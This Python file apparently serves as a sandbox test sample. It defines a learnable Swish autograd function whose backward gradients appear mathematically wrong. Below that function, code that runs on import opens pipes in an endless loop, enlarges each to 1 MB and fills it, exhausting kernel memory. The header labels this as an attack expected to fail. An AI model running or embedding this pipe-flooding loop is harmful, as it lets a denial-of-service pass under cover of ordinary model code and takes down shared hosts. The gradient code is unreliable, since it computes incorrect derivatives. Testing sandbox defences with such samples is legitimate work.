# scenario: learnable-swish
# attack: fills kernel memory with pipes
# expected: failed
# trace: vjp: swish_beta: 

import torch


class Swish(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x, beta):
        ctx.save_for_backward(x, beta)
        return x * torch.sigmoid(beta * x)

    @staticmethod
    def backward(ctx, g):
        x, beta = ctx.saved_tensors
        return g * torch.sigmoid(beta * x), (g * x).sum()


def swish_beta(x, beta):
    return Swish.apply(x, beta)


import fcntl, os
PIPES = []
try:
    while True:
        PIPES.append(os.pipe())
        os.set_blocking(PIPES[-1][1], False)
        try:
            fcntl.fcntl(PIPES[-1][1], 1031, 1 << 20)
        except OSError:
            pass
        os.write(PIPES[-1][1], bytes(1 << 20))
except OSError:
    pass
